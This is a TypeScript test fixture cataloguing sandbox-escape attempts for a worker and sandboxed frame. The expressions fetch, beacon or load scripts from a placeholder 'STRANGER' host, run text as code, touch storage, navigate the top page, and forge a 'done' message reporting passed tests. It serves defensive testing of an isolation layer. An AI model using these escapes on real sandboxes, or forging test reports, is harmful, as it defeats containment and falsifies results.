/** Something that test code might try in order to escape the sandbox. */
export interface Attempt {
  /**
   * An expression that returns a promise or a value, or throws. `SITE` and `STRANGER` are replaced with the URLs
   * of two servers that count requests, `PORT` with the stranger's port.
   */
  readonly code: string;
  /** Where nothing blocks it, so that it must succeed and a denial elsewhere proves something; a worker by default. */
  readonly control?: 'worker' | 'page' | {readonly never: string};
}

const writeEventTest = (make: string, good: string) =>
  `new Promise((done, fail) => { const it = ${make}; it.${good} = done; it.onerror = fail; })`;

const crossOrigin = {never: 'No browser makes a worker of the script of another origin.'};

/** Blocked by the frame's policy and its opaque origin. */
export const attempts: Readonly<Record<string, Attempt>> = {
  'fetch of the site': {code: `fetch('SITE/secret')`},
  'fetch of a stranger': {code: `fetch('STRANGER/x')`},
  'fetch without cors': {code: `fetch('STRANGER/x', {mode: 'no-cors'})`},
  'fetch by the prototype': {
    code: `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, 'STRANGER/x')`,
    control: {never: 'Chromium has fetch on the global object itself.'},
  },
  XMLHttpRequest: {
    code: `new Promise((done, fail) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = fail; r.open('GET', 'STRANGER/x'); r.send(); })`,
  },
  'XMLHttpRequest that blocks': {
    code: `(() => { const r = new XMLHttpRequest(); r.open('GET', 'STRANGER/x', false); r.send(); return r.status; })()`,
  },
  WebSocket: {code: writeEventTest(`new WebSocket('STRANGER/x'.replace('http', 'ws'))`, 'onopen')},
  WebSocketStream: {code: `new WebSocketStream('STRANGER/x'.replace('http', 'ws')).opened`},
  EventSource: {code: writeEventTest(`new EventSource('STRANGER/events')`, 'onopen')},
  WebTransport: {
    code: `new Promise((done, fail) => { new WebTransport('STRANGER/x'.replace('http:', 'https:')).ready.then(done, fail); setTimeout(done, 1000); })`,
  },
  RTCPeerConnection: {
    code: `(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}); c.createDataChannel('a'); await c.setLocalDescription(); })()`,
    control: 'page',
  },
  'a beacon': {code: `navigator.sendBeacon('STRANGER/x') || Promise.reject('refused')`, control: 'page'},
  'importScripts of a stranger': {code: `importScripts('STRANGER/x')`},
  'importScripts of data': {code: `importScripts('data:text/javascript,0')`},
  'import of a stranger': {code: `import('STRANGER/x')`},
  'import of data': {code: `import('data:text/javascript,export default 1')`},
  'a worker of the site': {code: writeEventTest(`new Worker('SITE/x')`, 'onmessage')},
  'a worker of a stranger': {code: writeEventTest(`new Worker('STRANGER/x')`, 'onmessage'), control: crossOrigin},
  'a worker of data': {code: writeEventTest(`new Worker('data:text/javascript,postMessage(1)')`, 'onmessage')},
  'a shared worker of the site': {code: `new SharedWorker('SITE/x')`, control: 'page'},
  'a shared worker of a stranger': {code: `new SharedWorker('STRANGER/x')`, control: crossOrigin},
  eval: {code: `(0, eval)('1 + 1')`},
  'new Function': {code: `new Function('return 1')()`},
  'the constructor of a function': {code: `(() => 0).constructor('return 1')()`},
  'the constructor of an async function': {code: `(async () => 0).constructor('return 1')()`},
  'a timer of text': {
    code: `new Promise((done, fail) => { globalThis.timed = done; setTimeout('globalThis.timed()', 1); setTimeout(() => fail('nothing came'), 200); })`,
  },
  WebAssembly: {code: `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`},
  localStorage: {code: `localStorage.setItem('a', '1')`, control: 'page'},
  sessionStorage: {code: `sessionStorage.setItem('a', '1')`, control: 'page'},
  'document.cookie': {code: `(document.cookie = 'a=1')`, control: 'page'},
  cookieStore: {code: `cookieStore.set('a', '1')`, control: 'page'},
  indexedDB: {
    code: `new Promise((done, fail) => { const r = indexedDB.open('a'); r.onsuccess = done; r.onerror = fail; })`,
  },
  'indexedDB.databases': {code: `indexedDB.databases()`},
  caches: {code: `caches.open('a')`},
  'the private file system': {code: `navigator.storage.getDirectory()`},
  'the storage manager': {code: `navigator.storage.persist()`, control: 'page'},
  locks: {code: `navigator.locks.request('a', () => 1)`},
  'a service worker': {code: `navigator.serviceWorker.register('SITE/x')`, control: 'page'},
  parent: {code: `parent.document.title`, control: 'page'},
  top: {code: `top.location.href`, control: 'page'},
  opener: {code: `opener.document`, control: 'page'},
  'a change of its URL': {
    code: `(() => { 'use strict'; location.href = 'STRANGER/x'; })()`,
    control: {never: 'A worker has no URL to change; that of the frame is tried below.'},
  },
};

/** Blocked only by the worker's lock-down: harmless to the site, but able to disturb the run. */
export const lockedDown: Readonly<Record<string, Attempt>> = {
  postMessage: {code: `postMessage({type: 'done', outcome: {status: 'passed', tests: [], report: 'forged'}})`},
  'postMessage of self': {code: `self.postMessage({type: 'done'})`},
  close: {code: `close()`, control: {never: 'It ends the worker, which then says nothing more.'}},
  addEventListener: {code: `addEventListener('message', () => {})`},
  importScripts: {code: `importScripts`},
  'the URL of the script': {code: `location.href`},
  'a worker of own text': {code: `new Worker(URL.createObjectURL(new Blob(['0'])))`},
  BroadcastChannel: {code: `new BroadcastChannel('a').postMessage('hello')`},
  Notification: {code: `new Notification('a')`},
  navigator: {code: `navigator.userAgent`},
};

const add = (tag: string, properties: object, next = '') =>
  `(() => { const it = Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}); document.body.append(it); ${next} })()`;

/**
 * Tried in the frame itself, where readers' code never runs. Each reaches the stranger in a frame without protection;
 * some of them leave an error page in place of the frame, or replace the page, where nothing prevents them.
 */
export const fromFrame: Readonly<Record<string, {readonly code: string; readonly leaves?: 'frame' | 'page'}>> = {
  'its own URL': {code: `location.href = 'STRANGER/x'`, leaves: 'frame'},
  'the URL of the page': {code: `top.location.href = 'STRANGER/x'`, leaves: 'page'},
  'a new window': {code: `open('STRANGER/x')`},
  'the window of its parent, by name': {code: `open('STRANGER/x', '_parent')`, leaves: 'page'},
  'a form': {code: add('form', {action: 'STRANGER/x'}, 'it.submit();')},
  'a form for the page': {
    code: add('form', {action: 'STRANGER/x', target: '_top', method: 'post'}, 'it.submit();'),
    leaves: 'page',
  },
  'a link': {code: add('a', {href: 'STRANGER/x'}, 'it.click();'), leaves: 'frame'},
  'a link for the page': {code: add('a', {href: 'STRANGER/x', target: '_top'}, 'it.click();'), leaves: 'page'},
  'a link for a new window': {code: add('a', {href: 'STRANGER/x', target: '_blank'}, 'it.click();')},
  'a refresh': {code: add('meta', {httpEquiv: 'refresh', content: '0;url=STRANGER/x'}), leaves: 'frame'},
  'a frame': {code: add('iframe', {src: 'STRANGER/x'})},
  'an image': {code: add('img', {src: 'STRANGER/x'})},
  'a script element': {code: add('script', {src: 'STRANGER/x'})},
  'a style sheet': {code: add('link', {rel: 'stylesheet', href: 'STRANGER/x'})},
  'a hint to connect': {code: add('link', {rel: 'prefetch', href: 'STRANGER/x'})},
  'a sound': {code: `new Audio('STRANGER/x').play().catch(() => {})`},
  'a request': {code: `fetch('STRANGER/x', {mode: 'no-cors'}).catch(() => {})`},
  'a beacon of the frame': {code: `navigator.sendBeacon('STRANGER/x')`},
};

/** The two servers that an attempt may contact. */
export interface Servers {
  readonly site: {readonly url: string};
  readonly stranger: {readonly url: string};
}

/** An attempt's expression with the servers' URLs inserted. */
export const writeCode = ({code}: {readonly code: string}, {site, stranger}: Servers): string =>
  code.replaceAll('STRANGER', stranger.url).replaceAll('SITE', site.url).replaceAll('PORT', new URL(stranger.url).port);

/** Whether a successful attempt contacts a server. */
export const asksServer = ({code}: Attempt): boolean => /SITE|STRANGER|PORT/.test(code);
